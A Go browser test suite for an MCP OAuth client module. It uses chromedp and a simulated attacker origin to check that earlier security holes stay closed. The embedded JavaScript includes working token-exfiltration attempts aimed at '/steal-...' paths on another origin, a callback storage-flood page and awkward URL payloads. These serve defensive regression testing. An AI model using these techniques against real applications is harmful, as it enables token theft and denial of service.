//go:build !js

package e2e

// Browser regression tests for the holes an adversarial review found
// (issue 10; SECURITY.md names each). They run in Debian's Chromium against
// mcpoauthtest servers whose Fallback serves web/, so that the app, the MCP
// server and the authorization server share one origin (no CORS in the
// way), and, where an attack comes from elsewhere, a second origin.

import (
	"context"
	"encoding/json"
	"fmt"
	"net/http"
	"net/http/httptest"
	"os"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/chromedp/chromedp"
	"github.com/mcp-oauth-wasm/mcp-oauth-wasm/internal/browser"
	"github.com/mcp-oauth-wasm/mcp-oauth-wasm/mcpoauthtest"
)

// appPage is one Chromium on /blank.html of an mcpoauthtest server whose
// Fallback serves web/ and the test's own handlers.
type appPage struct {
	t       *testing.T
	srv     *mcpoauthtest.Server
	root    context.Context // the browser, no deadline
	ctx     context.Context // the first tab, with the test's deadline
	console *browser.Console
}

const blankPage = `<!doctype html><meta charset="utf-8"><title>app</title><p>app</p>`

// webFiles serves web/ (the module as an app deploys it) and /blank.html.
func webFiles(mux *http.ServeMux) {
	files := http.FileServer(http.Dir("web"))
	mux.Handle("/", http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Cache-Control", "no-store")
		files.ServeHTTP(w, r)
	}))
	mux.HandleFunc("GET /blank.html", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		fmt.Fprint(w, blankPage)
	})
}

func openAppPage(t *testing.T, opts mcpoauthtest.Options, handlers func(mux *http.ServeMux)) *appPage {
	t.Helper()
	requireBrowserModule(t)
	if _, err := os.Stat(chromiumPath); err != nil {
		t.Fatalf("Chromium is required at %s (%v): apt-get update && apt-get install -y chromium", chromiumPath, err)
	}
	mux := http.NewServeMux()
	webFiles(mux)
	if handlers != nil {
		handlers(mux)
	}
	opts.Fallback = mux
	srv := newServer(t, opts)
	allocCtx, cancelAlloc := chromedp.NewExecAllocator(context.Background(), browser.Options()...)
	root, cancelRoot := chromedp.NewContext(allocCtx)
	t.Cleanup(func() { cancelRoot(); cancelAlloc() })
	p := &appPage{t: t, srv: srv, root: root, console: &browser.Console{}}
	if err := chromedp.Do(root); err != nil {
		t.Fatalf("starting %s: %v", chromiumPath, err)
	}
	p.console.Watch(root, "app")
	ctx, cancel := context.WithTimeout(root, browserTimeout)
	t.Cleanup(cancel)
	p.ctx = ctx
	t.Cleanup(func() {
		if t.Failed() {
			t.Logf("browser console:\n%s", p.console.String())
		}
	})
	if _, err := chromedp.Run(ctx, chromedp.Navigate(srv.URL+"/blank.html")); err != nil {
		t.Fatalf("opening the app page: %v", err)
	}
	return p
}

// eval runs an async JS expression in the app page and decodes its result.
func eval[T any](p *appPage, what, expr string) T {
	p.t.Helper()
	v, err := chromedp.Run(p.ctx, chromedp.Evaluate[T](expr, chromedp.EvalAwaitPromise))
	if err != nil {
		p.t.Fatalf("%s: %v", what, err)
	}
	return v
}

// moduleJS loads the module in the page: `api` is the loaded module.
const moduleJS = `const { load } = await import('/mcp-oauth.js'); const api = await load({ eager: true });`

// followMode is a mode function for servers that approve at once: it
// follows the authorization URL's redirects and resolves with the callback
// URL (mcpoauthtest's /authorize redirects straight back).
const followMode = `async (url) => (await fetch(url)).url`

// sawAuthorization lists the requests to path (on s) that carried an
// Authorization header.
func sawAuthorization(s *mcpoauthtest.Server, path string) []string {
	var out []string
	for _, r := range s.Requests() {
		if r.Path == path && r.Header.Get("Authorization") != "" {
			out = append(out, r.Method+" "+r.Path)
		}
	}
	return out
}

// TestBrowserCanonicalURLDifferential (item 1): mcp-oauth.js computes the
// MCP URL with the browser's own parser and the engine computes it in Go;
// over more than a thousand generated awkward URLs (encoded and plain dot
// segments, ports, IPv4 shorthands, IPv6 spellings, IDN, userinfo, empty
// paths, queries, fragments, case, characters each parser treats its own
// way) the two give the same canonical URL or both refuse.
func TestBrowserCanonicalURLDifferential(t *testing.T) {
	p := openAppPage(t, mcpoauthtest.Options{}, nil)
	type result struct {
		URL, JS, Go, JSErr, GoErr string
	}
	results := eval[[]result](p, "comparing JS and engine canonical URLs", `(async () => {
		`+moduleJS+`
		const go = await (await import('/engine.js')).startEngine();
		// Async storage: the client starts no background discovery.
		const storage = { getItem: async () => null, setItem: async () => {}, removeItem: async () => {} };
		const host = { storage, withLock: (name, fn) => fn(), emit() {}, openAuthorizationUrl() {} };
		const redirectUri = location.origin + '/callback.html';
		let seed = 20261202;
		const rand = (n) => { seed = (seed * 1103515245 + 12345) % 2147483648; return seed % n; };
		const pick = (a) => a[rand(a.length)];
		const schemes = ['https', 'https', 'https', 'http', 'HTTPS', 'hTTp', 'ftp', 'javascript', 'https:', 'https:/'];
		const hosts = ['mcp.example.com', 'MCP.Example.COM', 'localhost', 'mcp.example.com', 'Mcp.Example.com', '127.0.0.1', '[::1]', 'a_b.example', 'LOCALHOST', '127.0.0.1', '127.1', '0x7f.1', '0x7F.0.0.1',
			'127.000.0.1', '127.0.0.1.', '2130706433', '[::1]', '[0:0::1]', '[::ffff:127.0.0.1]', '[::ffff:7f00:1]', '[::1',
			'[fe80::1%25eth0]', '[2001:DB8::1]', '[2001:db8:0:0:1:0:0:1]', 'example.com.', 'a_b.example', 'bücher.de',
			'xn--bcher-kva.de', 'ex%41mple.com', 'exa mple.com', 'host.123', 'host.0x1', '1.2.3', 'user:pw@mcp.example.com',
			'@mcp.example.com', 'a..b', '-a.example', 'a!b.example', '', 'EXAMPLE.com%2e'];
		const ports = ['', '', ':443', ':0443', ':80', ':8080', ':', ':65535', ':65536', ':00', ':1'];
		const paths = ['', '/', '/mcp', '/mcp/', '/a/b/mcp', '/a/%2e%2e/mcp', '/%2E/mcp', '/h/mcp/%2e%2e/%2e%2e/m/mcp', '/a/./b', '/a/../b', '/a/b/..', '/a/%2E/b', '/a/.%2e/b',
			'/a/%2e%2E', '/..', '/./', '/a\\b', '/a b', '/%7Euser/mcp', '/%zz', '/é', '/a//b', "/it's", '/a"b', '/a|b', '/a%2fb',
			'/a%2Fb/..', '/a;b=c', '/[x]', '/a/...', '/a%2eb', '\t/mcp', '/mcp\n'];
		const queries = ['', '', '?', '?x=1', '?a=%20', '?a b', "?'x", '?a=1&b=/..', '?%2e%2e', '?#'];
		const frags = ['', '', '', '#', '#frag', '#a b', '#/../x'];
		const urls = new Set([
			'https://host/h/mcp/%2e%2e/%2e%2e/m/mcp', 'https://MCP.Example.COM:443/mcp#fragment', 'https://mcp.example.com/',
			'https://mcp.example.com', 'https://mcp.example.com/?tenant=1', 'https://mcp.example.com/a/b/', 'http://localhost:80/mcp',
			'http://127.0.0.1:8080/', 'https://[::1]:443/mcp', 'https://mcp.example.com/%7Euser/mcp', ' https://mcp.example.com/mcp',
			'https:///mcp.example.com/', 'https:mcp.example.com/mcp', 'https://mcp.example.com\\mcp', 'javascript:alert(1)', 'mcp.example.com',
		]);
		while (urls.size < 1200) {
			urls.add(pick(schemes) + '://' + pick(hosts) + pick(ports) + pick(paths) + pick(queries) + pick(frags));
		}
		const out = [];
		for (const url of urls) {
			const r = { URL: url, JS: '', Go: '', JSErr: '', GoErr: '' };
			try { r.JS = api.createClient({ mcpUrl: url, redirectUri, storage, mode: async () => '' }).mcpUrl; } catch (e) { r.JSErr = e.code || String(e); }
			try { r.Go = (await go.newClient(JSON.stringify({ mcpUrl: url, redirectUri }), host, true)).mcpUrl; } catch (e) { r.GoErr = e.code || String(e); }
			out.push(r);
		}
		return out;
	})()`)
	if len(results) < 1000 {
		t.Fatalf("compared %d URLs, want at least 1,000", len(results))
	}
	accepted, mismatches := 0, 0
	for _, r := range results {
		switch {
		case r.JSErr != "" && r.GoErr != "":
		case r.JSErr == "" && r.GoErr == "" && r.JS == r.Go:
			accepted++
		default:
			mismatches++
			if mismatches <= 20 {
				t.Errorf("%q: JS %q %s, engine %q %s", r.URL, r.JS, r.JSErr, r.Go, r.GoErr)
			}
		}
	}
	t.Logf("%d URLs: %d accepted with the same canonical URL, %d refused by both, %d mismatches", len(results), accepted, len(results)-accepted-mismatches, mismatches)
	if accepted < 100 {
		t.Errorf("only %d URLs were accepted: the generator no longer exercises the canonical form", accepted)
	}
}

// TestBrowserDotSegmentsCannotRedirectToken (item 1): the victim adds
// <origin>/mcp/%2e%2e/m/mcp. The browser fetches <origin>/m/mcp, the
// attacker's path, whose metadata claims the honest server's resource
// (<origin>/mcp). The engine sees the URL the browser fetches and refuses
// the metadata; no token is asked for, and none reaches /m/mcp.
func TestBrowserDotSegmentsCannotRedirectToken(t *testing.T) {
	var mu sync.Mutex
	var attackerSaw []string
	p := openAppPage(t, mcpoauthtest.Options{}, func(mux *http.ServeMux) {
		mux.HandleFunc("/m/mcp", func(w http.ResponseWriter, r *http.Request) {
			mu.Lock()
			attackerSaw = append(attackerSaw, r.Header.Get("Authorization"))
			mu.Unlock()
			w.Header().Set("WWW-Authenticate", `Bearer resource_metadata="http://`+r.Host+`/m/prm"`)
			w.WriteHeader(http.StatusUnauthorized)
		})
		mux.HandleFunc("GET /m/prm", func(w http.ResponseWriter, r *http.Request) {
			origin := "http://" + r.Host
			w.Header().Set("Content-Type", "application/json")
			_ = json.NewEncoder(w).Encode(map[string]any{"resource": origin + "/mcp", "authorization_servers": []string{origin}})
		})
	})
	type outcome struct{ MCPURL, Authorize, Fetch string }
	got := eval[outcome](p, "signing in through the dotted URL", `(async () => {
		`+moduleJS+`
		const client = api.createClient({ mcpUrl: location.origin + '/mcp/%2e%2e/m/mcp', redirectUri: location.origin + '/callback.html',
			storage: 'memory', mode: `+followMode+` });
		const out = { MCPURL: client.mcpUrl, Authorize: 'signed in', Fetch: '' };
		try { await client.authorize(); } catch (e) { out.Authorize = e.code; }
		try { out.Fetch = 'HTTP ' + (await client.fetch(client.mcpUrl, { method: 'POST', body: '{}' })).status; } catch (e) { out.Fetch = e.code; }
		return out;
	})()`)
	if got.MCPURL != p.srv.URL+"/m/mcp" {
		t.Errorf("client.mcpUrl = %q, want the URL the browser fetches, %s/m/mcp", got.MCPURL, p.srv.URL)
	}
	if got.Authorize != "metadata_invalid" || got.Fetch != "metadata_invalid" {
		t.Errorf("authorize: %s, fetch: %s; want metadata_invalid for both (the resource names another server)", got.Authorize, got.Fetch)
	}
	mu.Lock()
	defer mu.Unlock()
	for _, a := range attackerSaw {
		if a != "" {
			t.Fatalf("the attacker's /m/mcp received %q", a)
		}
	}
	if len(attackerSaw) == 0 {
		t.Errorf("the attacker's /m/mcp was never asked: the test no longer follows the browser's URL")
	}
	for _, path := range []string{"/register", "/token"} {
		if hasPath(p.srv, path) {
			t.Errorf("the flow reached %s", path)
		}
	}
}

// TestBrowserScopeFloodStaysResponsive (item 3): Protected Resource
// Metadata with 100,000 scopes (0.7 MB, under the old 1 MiB bound; refused
// by size), and the densest scope list that fits the 64 KiB bound (16,000
// one-character scopes; refused by its count of values before it is
// decoded) are both metadata_invalid, and no task on the page's main
// thread runs longer than 50 ms meanwhile, with the engine on that thread.
// Measured from after the engine's start, which is not this test's concern.
func TestBrowserScopeFloodStaysResponsive(t *testing.T) {
	scopes := make([]string, 100000)
	for i := range scopes {
		scopes[i] = strconv.FormatInt(int64(i), 36)
	}
	var dense strings.Builder
	dense.WriteString(`{"resource":"RESOURCE","authorization_servers":["ISSUER"],"scopes_supported":["a"`)
	for dense.Len() < 64<<10-200 {
		dense.WriteString(`,"a"`)
	}
	dense.WriteString(`]}`)
	p := openAppPage(t, mcpoauthtest.Options{PRMScopes: scopes}, func(mux *http.ServeMux) {
		mux.HandleFunc("/dense/mcp", func(w http.ResponseWriter, r *http.Request) {
			w.Header().Set("WWW-Authenticate", `Bearer resource_metadata="http://`+r.Host+`/dense/prm"`)
			w.WriteHeader(http.StatusUnauthorized)
		})
		mux.HandleFunc("GET /dense/prm", func(w http.ResponseWriter, r *http.Request) {
			origin := "http://" + r.Host
			w.Header().Set("Content-Type", "application/json")
			fmt.Fprint(w, strings.NewReplacer("RESOURCE", origin+"/dense/mcp", "ISSUER", origin).Replace(dense.String()))
		})
	})
	type outcome struct {
		Codes           []string
		LongTasks       []float64
		LongestGap, Dur float64
	}
	// The engine runs on the page here (worker: false), as it does where no
	// Worker can start: the bounds must keep that page responsive too.
	got := eval[outcome](p, "signing in against huge scope lists", `(async () => {
		const { load } = await import('/mcp-oauth.js'); const api = await load({ eager: true, worker: false });
		await new Promise((r) => setTimeout(r, 300));
		const long = [];
		const obs = new PerformanceObserver((list) => { for (const e of list.getEntries()) long.push(e.duration); });
		obs.observe({ type: 'longtask' });
		let last = performance.now(), gap = 0;
		const tick = setInterval(() => { const now = performance.now(); gap = Math.max(gap, now - last); last = now; }, 5);
		const start = performance.now();
		const codes = [];
		for (const path of ['/mcp', '/dense/mcp']) {
			const client = api.createClient({ mcpUrl: location.origin + path, redirectUri: location.origin + '/callback.html',
				storage: 'memory', mode: `+followMode+` });
			try { await client.authorize(); codes.push('signed in'); } catch (e) { codes.push(e.code + ': ' + e.message); }
		}
		const dur = performance.now() - start;
		await new Promise((r) => setTimeout(r, 200));
		clearInterval(tick);
		obs.disconnect();
		return { Codes: codes, LongTasks: long, LongestGap: gap, Dur: dur };
	})()`)
	t.Logf("refused in %.0f ms; longest gap between 5 ms timer ticks %.0f ms; long tasks: %v", got.Dur, got.LongestGap, got.LongTasks)
	if len(got.Codes) != 2 || !strings.HasPrefix(got.Codes[0], "metadata_invalid: ") || !strings.Contains(got.Codes[0], "larger than") ||
		!strings.HasPrefix(got.Codes[1], "metadata_invalid: ") || !strings.Contains(got.Codes[1], "values") {
		t.Errorf("authorize: %q, want metadata_invalid for the oversized document and for the dense one", got.Codes)
	}
	for _, d := range got.LongTasks {
		if d > 50 {
			t.Errorf("a main-thread task took %.0f ms (budget 50 ms)", d)
		}
	}
	if hasPath(p.srv, "/register") {
		t.Errorf("the flow registered a client")
	}
}

// evilOrigin is a server on another origin: it serves the attacker's pages
// and records what it receives.
type evilOrigin struct {
	*httptest.Server
	mu   sync.Mutex
	seen []string // "path Authorization"
}

func startEvilOrigin(t *testing.T, pages map[string]string) *evilOrigin {
	t.Helper()
	e := &evilOrigin{}
	e.Server = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Access-Control-Allow-Origin", "*")
		w.Header().Set("Access-Control-Allow-Headers", "authorization, content-type")
		w.Header().Set("Access-Control-Allow-Methods", "GET, POST")
		if r.Method == http.MethodOptions {
			return
		}
		e.mu.Lock()
		e.seen = append(e.seen, r.URL.Path+" "+r.Header.Get("Authorization"))
		e.mu.Unlock()
		if body, ok := pages[r.URL.Path]; ok {
			w.Header().Set("Content-Type", "text/html; charset=utf-8")
			fmt.Fprint(w, body)
		}
	}))
	t.Cleanup(e.Close)
	return e
}

func (e *evilOrigin) requests() []string {
	e.mu.Lock()
	defer e.mu.Unlock()
	return append([]string(nil), e.seen...)
}

// TestBrowserCallbackRelayFlood (item 2): a page on another origin opens
// the app's callback.html in windows it owns, with huge states. Nothing is
// stored for a sign-in this origin did not start; a started sign-in's
// response is relayed only while it is the size of one; oversized and
// expired entries are swept; and a sign-in afterwards works.
func TestBrowserCallbackRelayFlood(t *testing.T) {
	p := openAppPage(t, mcpoauthtest.Options{}, nil)
	evil := startEvilOrigin(t, map[string]string{"/flood.html": `<!doctype html><script>
		const app = new URLSearchParams(location.search).get('app');
		const live = new URLSearchParams(location.search).get('live');
		// One window at a time, largest first: whatever each window stores
		// fills what room is left, until the app's storage is full.
		const openAndWait = (url, name) => new Promise((resolve) => {
			const w = window.open(url, name);
			const t = setInterval(() => { if (!w || w.closed) { clearInterval(t); resolve(); } }, 50);
			setTimeout(() => { clearInterval(t); try { w.close(); } catch {} resolve(); }, 3000);
		});
		(async () => {
			for (const [i, n] of [1500000, 1000000, 600000, 300000, 150000, 80000, 40000, 20000, 10000, 5000, 2000, 800, 300].entries()) {
				await openAndWait(app + '/callback.html#code=x&state=' + 'A'.repeat(n) + i, 'w' + i);
			}
			await openAndWait(app + '/callback.html#code=x&state=' + live + '&pad=' + 'B'.repeat(20000), 'big');
			await openAndWait(app + '/callback.html#code=x&state=' + live, 'small');
			fetch('/opened');
		})();
	</script>`})
	live := "live-state-" + randomHex(8)
	eval[bool](p, "planting a popup marker, as a sign-in this page started writes it", `(async () => {
		localStorage.setItem('mcp-oauth-popup:`+live+`', String(Date.now()));
		return true;
	})()`)
	if _, err := chromedp.Run(p.ctx, chromedp.Navigate(evil.URL+"/flood.html?app="+p.srv.URL+"&live="+live)); err != nil {
		t.Fatal(err)
	}
	deadline := time.Now().Add(60 * time.Second)
	for !strings.Contains(strings.Join(evil.requests(), "\n"), "/opened") && time.Now().Before(deadline) {
		time.Sleep(100 * time.Millisecond)
	}
	if _, err := chromedp.Run(p.ctx, chromedp.Navigate(p.srv.URL+"/blank.html")); err != nil {
		t.Fatal(err)
	}
	type relays struct {
		Keys  []string
		Chars int
	}
	readRelays := `(async () => {
		const out = { Keys: [], Chars: 0 };
		for (let i = 0; i < localStorage.length; i++) {
			const k = localStorage.key(i);
			if (k.startsWith('mcp-oauth-callback:')) { out.Keys.push(k.slice(0, 40) + '(' + k.length + ')'); out.Chars += k.length + localStorage.getItem(k).length; }
		}
		return out;
	})()`
	before := eval[relays](p, "reading the relay keys", readRelays)
	if len(before.Keys) != 1 || !strings.Contains(before.Keys[0], live[:20]) {
		t.Errorf("relay keys after the flood: %v (%d chars); want only the live sign-in's small response", before.Keys, before.Chars)
	}
	t.Logf("after the flood, relay entries hold %d characters", before.Chars)
	// What an older version let a flood leave, and an expired entry: the
	// first client the app creates sweeps them.
	eval[bool](p, "planting old relay entries", `(async () => {
		localStorage.setItem('mcp-oauth-callback:old', JSON.stringify({ url: 'x'.repeat(900000), at: Date.now() }));
		localStorage.setItem('mcp-oauth-callback:expired', JSON.stringify({ url: 'https://x/?code=1', at: Date.now() - 11 * 60 * 1000 }));
		return true;
	})()`)
	type signIn struct {
		Code  string
		After relays
	}
	got := eval[signIn](p, "signing in after the flood", `(async () => {
		`+moduleJS+`
		const client = api.createClient({ mcpUrl: location.origin + '/mcp', redirectUri: location.origin + '/callback.html', mode: `+followMode+` });
		let code = 'signed in';
		try { await client.authorize(); } catch (e) { code = e.code + ': ' + e.message; }
		return { Code: code, After: await `+readRelays+` };
	})()`)
	if got.Code != "signed in" {
		t.Errorf("sign-in after the flood: %s", got.Code)
	}
	for _, k := range got.After.Keys {
		if strings.Contains(k, "mcp-oauth-callback:old") || strings.Contains(k, "mcp-oauth-callback:expired") {
			t.Errorf("an oversized or expired relay entry was not swept: %v", got.After.Keys)
		}
	}
}

// TestBrowserFetchSendsWhatItChecked (item 5): client.fetch decides on the
// same request it sends. A Request made in another realm (an iframe's) and
// an object whose string form changes between reads used to get the
// Bearer checked against the MCP server and sent to another origin.
func TestBrowserFetchSendsWhatItChecked(t *testing.T) {
	p := openAppPage(t, mcpoauthtest.Options{}, nil)
	evil := startEvilOrigin(t, nil)
	tok := "planted-" + randomHex(12)
	type outcome struct{ Iframe, ToString, URLSubclass, Plain string }
	got := eval[outcome](p, "fetching with awkward inputs", `(async () => {
		`+moduleJS+`
		const mcpUrl = location.origin + '/mcp';
		const evil = `+jsString(evil.URL)+`;
		localStorage.setItem('mcp-oauth:v1:tokens:' + mcpUrl, JSON.stringify({
			access_token: `+jsString(tok)+`, token_type: 'Bearer', issuer: location.origin, expires_at: Math.floor(Date.now() / 1000) + 3600 }));
		const client = api.createClient({ mcpUrl, redirectUri: location.origin + '/callback.html', mode: async () => { throw new Error('no sign-in here'); } });
		const status = async (p) => { try { return 'HTTP ' + (await p).status; } catch (e) { return e.code || e.name; } };
		const frame = document.createElement('iframe');
		frame.src = '/blank.html';
		await new Promise((r) => { frame.onload = r; document.body.append(frame); });
		const out = {};
		out.Iframe = await status(client.fetch(new frame.contentWindow.Request(evil + '/steal-iframe')));
		let n = 0;
		out.ToString = await status(client.fetch({ toString: () => (n++ === 0 ? mcpUrl : evil + '/steal-tostring') }));
		class Sneaky extends URL { toString() { return evil + '/steal-subclass'; } get href() { return evil + '/steal-subclass'; } }
		out.URLSubclass = await status(client.fetch(new Sneaky(mcpUrl)));
		out.Plain = await status(client.fetch(evil + '/plain'));
		return out;
	})()`)
	t.Logf("%+v", got)
	seen := evil.requests()
	for _, r := range seen {
		if strings.Contains(r, tok) || strings.Contains(r, "Bearer") {
			t.Errorf("the other origin received a token: %s", strings.ReplaceAll(r, tok, "<token>"))
		}
	}
	if !strings.Contains(strings.Join(seen, "\n"), "/steal-iframe") || !strings.Contains(strings.Join(seen, "\n"), "/plain") {
		t.Errorf("requests to other origins were not sent at all (want them sent without a token): %v", seen)
	}
}
